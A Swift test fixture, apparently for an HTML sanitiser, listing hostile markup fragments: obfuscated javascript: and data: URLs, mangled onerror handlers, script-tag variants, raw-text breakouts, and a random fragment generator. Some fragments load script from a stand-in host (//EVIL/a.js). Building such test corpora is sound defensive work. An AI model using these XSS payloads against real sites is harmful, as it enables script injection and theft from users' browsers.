// Fragments that attack whoever shows them: written for these tests, class by class, and multiplied by a grammar.
// CANARY stands for a script that reports itself, EVIL for a host that must not be asked for anything.

/// Hostile fragments of HTML.
package enum HostileMarkup {
    /// All of them, each once.
    package static let all: [String] = {
        var seen: Set<String> = []
        let lists = [
            elements, handlers, addresses, foreign, mutations, rawText, comments, breakouts, styles, clobbering,
        ]
        return (lists.flatMap { $0 } + generated).filter { seen.insert($0).inserted }
    }()

    /// The fragment with its stand-ins replaced.
    package static func armed(_ fragment: String, canary: String, evil: String) -> String {
        fragment.replacing("CANARY", with: canary).replacing("EVIL", with: evil)
    }

    /// A fragment made of the pieces in any order, as no person would write it.
    package static func random(using generator: inout SeededGenerator) -> String {
        (0..<Int.random(in: 1...14, using: &generator)).map { _ in
            pieces.randomElement(using: &generator) ?? ""
        }
        .joined()
    }

    // MARK: - Products

    private static let generated = schemeProducts + handlerProducts + elementProducts + closeProducts

    private static let schemes = [
        "javascript:CANARY", "JaVaScRiPt:CANARY", " javascript:CANARY", "&#1;javascript:CANARY",
        "java&#9;script:CANARY",
        "java\nscript:CANARY", "java&#13;script:CANARY", "&#106;avascript:CANARY", "&#x6A;avascript&#58;CANARY",
        "&#0000106avascript:CANARY", "javascript&colon;CANARY", "javascript&#x3A;CANARY", "java&Tab;script:CANARY",
        "java&NewLine;script:CANARY", "\u{0}javascript:CANARY", "java\u{0}script:CANARY", "\u{FEFF}javascript:CANARY",
        "\u{A0}javascript:CANARY", "\u{2028}javascript:CANARY", "java\u{AD}script:CANARY", "javascript\t:CANARY",
        "javascript://%0aCANARY", "vbscript:CANARY", "livescript:CANARY", "data:text/html,<script>CANARY</script>",
        "data:text/html;base64,PHNjcmlwdD4=", "DATA:image/svg+xml,<svg onload=CANARY>", "blob:CANARY",
        "view-source:javascript:CANARY", "feed:javascript:CANARY", "jar:javascript:CANARY", "ｊavascript:CANARY",
        "x:javascript:CANARY", "\\javascript:CANARY", "./javascript:CANARY", "#javascript:CANARY", "?javascript:CANARY",
    ]

    private static let schemeProducts = schemes.flatMap { scheme in
        [
            "<a href=\"\(scheme)\">x</a>", "<img src='\(scheme)'>", "<area href=\"\(scheme)\">",
            "<video poster=\"\(scheme)\"></video>", "<blockquote cite=\"\(scheme)\">x</blockquote>",
            "<img srcset=\"\(scheme) 2x\">", "<table background=\"\(scheme)\"><tr><td>x</td></tr></table>",
        ]
    }

    private static let handlerProducts = [
        "onerror", "ONERROR", "oNeRrOr", "onerror\u{0}", "on\u{0}error", "\u{0}onerror", "onerror\n", "\u{C}onerror",
        "&#111;nerror", "x/onerror", "\"onerror", "'onerror", "`onerror", "ｏnerror", "on\u{AD}error",
        "onerror=x onerror",
        "style=x:onerror", "<onerror", "=onerror", "//onerror",
    ].flatMap { name in
        ["<img src=x: \(name)=CANARY>", "<img src=x:/\(name)=\"CANARY\">", "<img src=x: \(name) = 'CANARY' "]
    }

    private static let elementProducts = [
        "script", "SCRIPT", "ScRiPt", "script ", "script/", "script\n", "script\t", "script\u{C}", "script\u{0}",
        "\u{0}script", "scr\u{0}ipt", "script/x", "script x=\">\"", "x:script", "svg:script", "script\u{A0}", "ſcript",
    ].flatMap { name in
        [
            "<\(name)>CANARY</script>", "<\(name) src=//EVIL/a.js></script>", "a<\(name)>CANARY",
            "<p><\(name)>CANARY</p>",
            "<<\(name)>CANARY//<</script>", "<scr<script>ipt>CANARY</scr</\(name)>ipt>",
        ]
    }

    private static let closeProducts = [
        "title", "textarea", "style", "xmp", "iframe", "noembed", "noframes", "noscript", "plaintext", "template",
        "select",
        "option", "svg", "math", "table", "frameset", "object", "script", "listing", "pre", "caption", "head", "body",
    ].flatMap { name in
        [
            "<\(name)><img src=x: onerror=CANARY></\(name)>",
            "<\(name)><a title=\"</\(name)><img src=x: onerror=CANARY>\">",
            "<\(name)><!--</\(name)><img src=x: onerror=CANARY>-->", "</\(name)><img src=x: onerror=CANARY>",
            "<\(name)", "<p><\(name)><p></\(name)><img src=x: onerror=CANARY>",
        ]
    }

    private static let pieces = [
        "<a href=\"", "<img src=x: onerror=CANARY>", "<p>", "</p>", "<b>", "</b>", "<i ", "<table>", "<tr>", "<td>",
        "</table>",
        "<svg>", "</svg>", "<math>", "</math>", "<mtext>", "<mglyph>", "<style>", "</style>", "<script>CANARY</script>",
        "<title>", "</title>", "<textarea>", "</textarea>", "<xmp>", "</xmp>", "<noscript>", "</noscript>",
        "<template>",
        "</template>", "<select>", "</select>", "<form>", "</form>", "<!--", "-->", "--!>", "<![CDATA[", "]]>",
        "<?xml ",
        "?>", "<!doctype ", "\"", "'", "`", ">", "<", "/", "=", " onclick=CANARY ", " style=\"", "javascript:CANARY",
        "&quot;", "&lt;", "&gt;", "&#0;", "\u{0}", "\n", "\u{C}", "\u{A0}", "\u{FFFE}", "</", "<a", "<desc>",
        "<foreignObject>", "<annotation-xml encoding=\"text/html\">", "srcset=\"a 1x, javascript:x 2x\"", "<plaintext>",
        "<iframe srcdoc=\"", "&lt;script&gt;", "<o:p>", "<x-y>", "<br/>", "</br>", "</p>", "<image ", "<h1>", "<a><a>",
        "color:red;", "url(//EVIL/)", "<u", "<s\u{0}", "tekst", "é", "😀", "&", "&amp", ";",
    ]
}
